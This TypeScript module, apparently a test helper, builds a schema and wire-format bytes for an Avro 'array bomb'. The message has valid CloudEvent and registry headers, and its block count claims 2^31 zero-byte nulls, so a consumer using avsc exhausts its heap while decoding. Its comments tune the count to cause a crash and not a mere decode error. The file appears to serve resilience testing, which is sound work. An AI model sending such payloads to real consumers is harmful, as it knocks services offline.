/**
 * Records built to hurt a consumer: valid CloudEvent headers and registry wire format, with an
 * Avro body that makes decoding exhaust the process.
 */
import avro from 'avsc';

/** A record type with one array of nulls: each item takes no bytes, so a count alone makes the array. */
export function arrayBombSchema(namespace: string): string {
  return JSON.stringify({
    type: 'record',
    name: 'Bomb',
    namespace,
    fields: [{ name: 'items', type: { type: 'array', items: 'null' } }],
  });
}

/**
 * The wire-format value (magic byte, schema id, Avro body) of a `Bomb` whose array block claims
 * `items` nulls: avsc creates the items one by one until the heap is gone. 2^31 by default: above
 * 2^32 - 1 avsc's `new Array(n)` throws a RangeError instead (a plain poison, not a crash).
 */
export function arrayBombValue(schemaId: number, items = 2 ** 31): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt8(0, 0);
  header.writeUInt32BE(schemaId, 1);
  const blockCount = avro.Type.forSchema('long').toBuffer(items);
  return Buffer.concat([header, blockCount, Buffer.from([0])]); // one block, then the end of the array
}
